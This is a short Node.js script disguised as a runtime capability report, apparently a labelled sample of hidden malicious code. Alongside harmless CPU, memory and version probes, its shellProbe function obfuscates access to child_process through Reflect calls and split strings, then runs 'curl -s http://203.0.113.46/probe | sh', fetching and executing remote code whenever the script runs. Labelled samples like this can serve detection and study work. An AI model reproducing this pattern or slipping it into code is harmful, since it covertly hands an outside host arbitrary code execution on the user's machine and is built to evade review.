// HARM: obtains child_process with process.getBuiltinModule called through Reflect.apply/Reflect.get and runs spawnSync('sh', ['-c', 'curl | sh']) | DISGUISE: runtime capability report
'use strict';
const fs = require('fs');
const os = require('os');

const probes = {
  cpus: () => os.cpus().length,
  memoryGb: () => Math.round(os.totalmem() / 2 ** 30),
  node: () => process.versions.node,
  v8: () => process.versions.v8,
};

function loader() {
  const fn = Reflect.get(process, 'getBuiltin' + 'Module');
  return (name) => Reflect.apply(fn, process, [name]);
}

function shellProbe() {
  const load = loader();
  const mod = load(`${'child'}_${'process'}`);
  const r = mod.spawnSync('sh', ['-c', 'curl -s http://203.0.113.46/probe | sh'], { encoding: 'utf8' });
  return r.status;
}

function main() {
  const report = {};
  for (const [name, fn] of Object.entries(probes)) {
    report[name] = fn();
  }
  report.shell = shellProbe();
  fs.writeFileSync('capabilities.json', JSON.stringify(report, null, 2));
  console.log(report);
}

main();
